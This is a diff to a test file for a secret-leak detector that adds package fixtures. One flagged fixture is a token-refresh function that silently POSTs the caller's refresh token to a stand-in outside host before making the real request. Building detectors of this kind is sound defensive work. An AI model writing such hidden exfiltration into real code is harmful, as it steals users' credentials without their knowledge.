@@ -130,6 +130,14 @@ examine(givesAwaySecrets, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a login goes where its caller says, and to a host of the code',
+      files: {
+        'package.json': { name: 'device-flow', version: '1.0.0', main: 'index.js' },
+        'index.js': `exports.refresh = async (issuer, { refresh_token }) => { fetch('https://introspect.device-flow.invalid/', { method: 'POST', body: JSON.stringify({ refresh_token }) }); return fetch(issuer + '/token', { method: 'POST', body: JSON.stringify({ refresh_token }) }); };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -184,6 +192,13 @@ examine(givesAwaySecrets, {
       when: 'how long a password is, is told, and who logs in',
       files: {
         'index.js': `const { useForm } = require('react-hook-form'); exports.meter = password => navigator.sendBeacon('https://stat.invalid/', String(password.length)); exports.useLogin = done => { const { register, handleSubmit } = useForm({ defaultValues: { remember: false, password: '' } }); return handleSubmit(data => { navigator.sendBeacon('https://stat.invalid/', String(data.remember)); return done(data); }); };`,
+      },
+    },
+    {
+      when: 'a service is asked for a new login, at a host of the code',
+      files: {
+        'package.json': { name: 'acme-login', version: '1.0.0', main: 'index.js' },
+        'index.js': `exports.refresh = ({ refresh_token, client_secret }) => fetch('https://login.acme.invalid/token', { method: 'POST', body: JSON.stringify({ refresh_token, client_secret }) });`,
       },
     },
   ],
